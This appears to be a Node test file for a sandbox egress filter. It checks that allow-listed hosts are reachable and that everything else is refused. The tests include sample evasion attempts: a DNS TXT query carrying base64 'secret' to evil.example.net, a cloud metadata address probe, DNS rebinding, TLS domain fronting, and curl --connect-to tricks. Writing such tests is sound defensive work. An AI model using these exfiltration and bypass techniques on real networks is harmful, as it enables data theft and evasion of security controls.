/** Hosts allowed by name: what may be reached is, by every client, and all else fails at once and reaches nobody. */
import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { after, before, test } from 'node:test'
import { whyNot } from '../fixtures/as.ts'
import { Theatre, whyNoTheatre } from '../fixtures/egress.ts'
import { needs } from '../fixtures/needs.ts'

const skip = whyNot('plain') ?? whyNoTheatre() ?? false
let theatre: Theatre
before(async () => {
  if (!skip) theatre = await Theatre.open('plain')
})
after(async () => theatre?.[Symbol.asyncDispose]())

const hosts = ['good.example.org', '*.example.org:443,2222', '10.8.0.0/16:443', '11.0.0.2:2222']

/** Runs the attempts in one sandbox: the outcome of each by its name. */
async function attempt(attempts: Record<string, object>, options: readonly string[] = []) {
  const script = `"$NODE" "$CLIENTS" '${JSON.stringify(attempts)}'`
  const { stdout, stderr, ...rest } = await theatre.play({ hosts, options, script })
  assert.ok(stdout.startsWith('{'), stderr)
  return { answers: JSON.parse(stdout) as Record<string, string>, stderr, ...rest }
}

test('curl, fetch, Python, git and raw sockets reach allowed hosts without a word about a proxy', {
  skip,
}, async () => {
  const script = `
    env | grep -i proxy
    curl -sS --cacert "$CA" https://good.example.org/
    curl -sS http://good.example.org/page
    python3 -c "import urllib.request,ssl
print(urllib.request.urlopen('https://also.example.org/', context=ssl.create_default_context(cafile='$CA')).read().decode(), end='')"
    git -c http.sslCAInfo="$CA" ls-remote https://good.example.org/repo.git | cut -f2
    "$NODE" "$CLIENTS" '${JSON.stringify({
      fetch: { kind: 'fetch', url: 'https://named.example.org/' },
      banner: { kind: 'tcp', host: 'good.example.org', port: 2222 },
      echo: { kind: 'tcp', host: '11.0.0.2', port: 2222, say: 'x' },
    })}'`
  const { stdout, stderr, reached } = await theatre.play({ hosts, script })
  assert.deepEqual(
    stdout.trim().split('\n'),
    [
      'hello from 11.0.0.1:443',
      'plain 11.0.0.1:80/page',
      'hello from 11.0.0.3:443',
      'HEAD',
      'refs/heads/main',
      '{"fetch":"hello from 10.8.0.1:443","banner":"ready","echo":"ready"}',
    ],
    stderr,
  )
  assert.ok(reached.includes('11.0.0.1:443 good.example.org'))
})

test('everything else is refused, and neither a connection nor a question gets out', { skip }, async () => {
  const { answers, reached, asked, log } = await attempt({
    name: { kind: 'dns', name: 'evil.example.net' },
    secret: { kind: 'dns', name: 'c2VjcmV0.evil.example.net', type: 'TXT' },
    address: { kind: 'tcp', host: '11.0.0.2', port: 443 },
    port: { kind: 'tcp', host: '11.0.0.2', port: 80 },
    metadata: { kind: 'tcp', host: '169.254.169.254', port: 80 },
    neighbour: { kind: 'tcp', host: '10.9.9.9', port: 443 },
    nameServer: { kind: 'dns', name: 'good.example.org', server: '11.0.0.53' },
    nameServerTcp: { kind: 'tcp', host: '11.0.0.53', port: 53 },
    udp: { kind: 'udp', host: '11.0.0.1', port: 443 },
    ipv6: { kind: 'tcp', host: '2001:db8::1', port: 443 },
    udp6: { kind: 'udp', host: '2001:db8::1', port: 443 },
    mapped: { kind: 'tcp', host: '::ffff:11.0.0.2', port: 443 },
  })
  const { nameServer, udp, udp6, ipv6, ...rest } = answers
  assert.deepEqual(rest, {
    name: 'ENOTFOUND',
    secret: 'ENOTFOUND',
    address: 'ECONNRESET',
    port: 'ECONNRESET',
    metadata: 'ECONNRESET',
    neighbour: 'ECONNRESET',
    nameServerTcp: 'ECONNRESET',
    mapped: 'ECONNRESET',
  })
  // the second where the kernel cannot lead the question to us
  assert.match(nameServer ?? '', /^E(REFUSED|PERM)$/)
  assert.equal(udp, 'EPERM')
  assert.match(udp6 ?? '', /^E(PERM|NETUNREACH|ACCES|ADDRNOTAVAIL)$/)
  assert.match(ipv6 ?? '', /^E(CONNRESET|NETUNREACH|ADDRNOTAVAIL)$/)
  assert.deepEqual(reached, [])
  assert.deepEqual(asked, [])
  const metadata = log.find(({ address }) => address === '169.254.169.254')
  assert.equal(metadata?.verdict, 'refused')
  assert.equal(metadata?.reason, 'address-closed')
  assert.equal(typeof metadata?.pid, 'number')
})

test('a server name must belong to the address that the connection goes to', { skip }, async () => {
  const { answers, reached, log } = await attempt({
    learn: { kind: 'dns', name: 'good.example.org' },
    learnOther: { kind: 'dns', name: 'also.example.org' },
    right: { kind: 'tls', host: 'good.example.org', name: 'good.example.org' },
    fronted: { kind: 'tls', host: '11.0.0.1', name: 'evil.example.net' },
    other: { kind: 'tls', host: '11.0.0.1', name: 'also.example.org' },
    unknown: { kind: 'tls', host: '11.0.0.2', name: 'good.example.org' },
    half: { kind: 'tcp', host: '11.0.0.1', port: 443, say: '\u0016\u0003\u0001\u0000\u0005\u0002\u0000\u0000\u0001x' },
  })
  const { right, fronted, other, unknown, half } = answers
  assert.equal(right, 'HTTP/1.1 200 OK')
  assert.deepEqual([fronted, other, unknown, half], Array(4).fill('ECONNRESET'))
  assert.deepEqual(reached, ['11.0.0.1:443 good.example.org'])
  const reasons = log.flatMap(({ verdict, reason, host }) => (verdict === 'refused' ? [`${reason} ${host}`] : []))
  assert.ok(reasons.includes('server-name-differs evil.example.net'), reasons.join())
  assert.ok(reasons.includes('hello-broken good.example.org'), reasons.join())
})

test('an allowed name that leads into a private range is no name, unless the range is named too', {
  skip,
}, async () => {
  const { answers, reached, log } = await attempt({
    rebind: { kind: 'dns', name: 'rebind.example.org' },
    named: { kind: 'dns', name: 'named.example.org' },
    noIpv6: { kind: 'dns', name: 'good.example.org', type: 'AAAA' },
    overTcp: { kind: 'fetch', url: 'http://rebind.example.org:2222/' },
  })
  assert.deepEqual(answers, { rebind: 'ENOTFOUND', named: '10.8.0.1', noIpv6: 'ENODATA', overTcp: 'ENOTFOUND' })
  assert.deepEqual(reached, [])
  assert.ok(log.some(({ host, reason }) => host === 'rebind.example.org' && reason === 'address-closed'))
})

test('IPv6 is carried like IPv4: by name, by address where a rule says so, and nothing else', {
  skip: skip || (existsSync('/proc/net/if_inet6') ? false : 'needs IPv6'),
}, async () => {
  const script = `
    curl -sS --cacert "$CA" https://six.example.org/
    python3 -c "import urllib.request,ssl
print(urllib.request.urlopen('https://six.example.org/', context=ssl.create_default_context(cafile='$CA')).read().decode(), end='')"
    "$NODE" "$CLIENTS" '${JSON.stringify({
      fetch: { kind: 'fetch', url: 'https://six.example.org/' },
      both: { kind: 'dns', name: 'both.example.org', type: 'AAAA' },
      onlySix: { kind: 'dns', name: 'six.example.org' },
      named: { kind: 'tcp', host: '2600:1::6', port: 2222 },
      otherPort: { kind: 'tcp', host: '2600:1::5', port: 2222 },
      closed: { kind: 'tcp', host: 'fd00:ec2::254', port: 80 },
      linkLocal: { kind: 'tcp', host: 'fe80::1%lo', port: 80 },
      fronted: { kind: 'tls', host: '2600:1::5', name: 'six.example.org' },
      rebind: { kind: 'dns', name: 'rebind6.example.org', type: 'AAAA' },
    })}'`
  const { stdout, stderr, reached, log } = await theatre.play({
    hosts: ['*.example.org:443', '[2600:1::6]:2222'],
    script,
  })
  const [curl, python, answers = ''] = stdout.trim().split('\n')
  assert.deepEqual([curl, python], Array(2).fill('hello from [2600:1::6]:443'), stderr)
  const { linkLocal, ...rest } = JSON.parse(answers)
  assert.deepEqual(rest, {
    fetch: 'hello from [2600:1::6]:443',
    both: '2600:1::5',
    onlySix: 'ENODATA',
    named: 'ready',
    otherPort: 'ECONNRESET',
    closed: 'ECONNRESET',
    fronted: 'ECONNRESET',
    rebind: 'ENOTFOUND',
  })
  assert.match(linkLocal, /^E/)
  assert.ok(!reached.some((host) => host.includes('fd00')), reached.join())
  assert.ok(log.some(({ address, reason }) => address === 'fd00:ec2::254' && reason === 'address-closed'))
})

test('a name leads neither to the machine nor to its neighbours by their public addresses, unless a rule names those', {
  skip: skip || (existsSync('/proc/net/if_inet6') ? false : 'needs IPv6'),
}, async () => {
  const wishes = {
    own: { kind: 'dns', name: 'own.example.org' },
    own6: { kind: 'dns', name: 'own.example.org', type: 'AAAA' },
    neighbour: { kind: 'tcp', host: 'neighbour.example.org', port: 2222 },
    address: { kind: 'tcp', host: '2600:7::1', port: 2222 },
    beyond: { kind: 'dns', name: 'both.example.org', type: 'AAAA' },
  }
  const script = `"$NODE" "$CLIENTS" '${JSON.stringify(wishes)}'; curl -sS http://neighbour.example.org/`
  const closed = await theatre.play({ hosts: ['*'], options: ['--proxy'], script })
  const [answers = '', proxied] = closed.stdout.trim().split('\n')
  assert.deepEqual(JSON.parse(answers), {
    ...{ own: 'ENOTFOUND', own6: 'ENOTFOUND', neighbour: 'ENOTFOUND', address: 'ECONNRESET' },
    beyond: '2600:1::5',
  })
  assert.equal(proxied, 'usnea: neighbour.example.org:80 is not allowed (address-closed)')
  assert.deepEqual(closed.reached, [])
  assert.ok(closed.log.some(({ address, reason }) => address === '2600:7::1' && reason === 'address-closed'))
  const named = await theatre.play({ hosts: ['*', '[2600:7::/64]:2222'], script })
  const { neighbour, address } = JSON.parse(named.stdout.trim().split('\n')[0] ?? '')
  assert.deepEqual([neighbour, address], ['ready', 'ready'])
  assert.deepEqual(named.reached, Array(2).fill('[2600:7::1]:2222'))
})

test('names are taken as resolvers take them: in any case, with a final dot, and of other scripts', {
  skip,
}, async () => {
  const { answers, asked } = await attempt({
    cased: { kind: 'dns', name: 'GOOD.Example.ORG' },
    dotted: { kind: 'tcp', host: 'good.example.org.', port: 2222 },
    tls: { kind: 'tls', host: '11.0.0.1', name: 'Good.Example.Org' },
    script: { kind: 'dns', name: 'xn--bcher-kva.example.org' },
    suffix: { kind: 'dns', name: 'badexample.org' },
    label: { kind: 'dns', name: 'good.example.org.evil.example.net' },
  })
  assert.deepEqual(answers, {
    cased: '11.0.0.1',
    dotted: 'ready',
    tls: 'HTTP/1.1 200 OK',
    script: 'ENOTFOUND',
    suffix: 'ENOTFOUND',
    label: 'ENOTFOUND',
  })
  assert.ok(asked.includes('xn--bcher-kva.example.org'), 'below an allowed name it is asked for')
  assert.ok(!asked.some((name) => name.includes('evil') || name.startsWith('bad')), asked.join())
})

test('the loopback stays the own one of the command, and servers there are reached', { skip }, async () => {
  const script = `"$NODE" -e '
    const server = require("net").createServer((s) => s.end("mine")).listen(8080, () =>
      require("net").connect(8080, "127.0.0.1").on("data", (d) => { console.log(String(d)); process.exit() }))'`
  const { stdout } = await theatre.play({ hosts, script })
  assert.equal(stdout, 'mine\n')
})

test('a proxy with the same rules is offered: HTTP, CONNECT and SOCKS5, and it says why not', { skip }, async () => {
  const script = `
    curl -sS --cacert "$CA" https://good.example.org/
    curl -sS http://good.example.org/page
    curl -sS --cacert "$CA" -x "$ALL_PROXY" https://also.example.org/
    curl -sS http://evil.example.net/
    curl -sS http://rebind.example.org:443/
    curl -sS --cacert "$CA" https://evil.example.net/ -o /dev/null 2>&1
    curl -sS -k --connect-to evil.example.net:443:good.example.org:443 https://evil.example.net/ 2>/dev/null || echo cut`
  const { stdout, reached } = await theatre.play({ hosts, options: ['--proxy'], script })
  const lines = stdout.trim().split('\n')
  assert.deepEqual(lines.slice(0, 5), [
    'hello from 11.0.0.1:443',
    'plain 11.0.0.1:80/page',
    'hello from 11.0.0.3:443',
    'usnea: evil.example.net:80 is not allowed (name-not-allowed)',
    'usnea: rebind.example.org:443 is not allowed (address-closed)',
  ])
  assert.match(lines[5] ?? '', /403/)
  assert.equal(lines[6], 'cut')
  assert.equal(reached.length, 3)
})

test('a host that is down is a reset, a status of the command is its own, and a summary tells what was refused', {
  skip,
}, async () => {
  const script = 'curl -sS https://down.example.org/ 2>&1; curl -sS https://11.0.0.2/ 2>&1; exit 7'
  const { status, stdout, stderr } = await theatre.play({ hosts, script })
  assert.equal(status, 7)
  assert.match(stdout, /(reset by peer|connect to server)[\s\S]*(reset by peer|connect to server)/)
  assert.match(stderr, /denied: tcp 11\.0\.0\.2:443 \(not on this port/)
})

test('where there is no tun device, pasta says what to do instead', {
  skip: skip || (needs('pasta') ?? false),
}, async () => {
  const { status, stderr } = await theatre.play({ hosts: [], options: ['--net', 'pasta'], script: 'echo ran' })
  assert.equal(status, 125)
  assert.match(stderr, /\/dev\/net\/tun.*--device \/dev\/net\/tun.*--allow-host/)
})
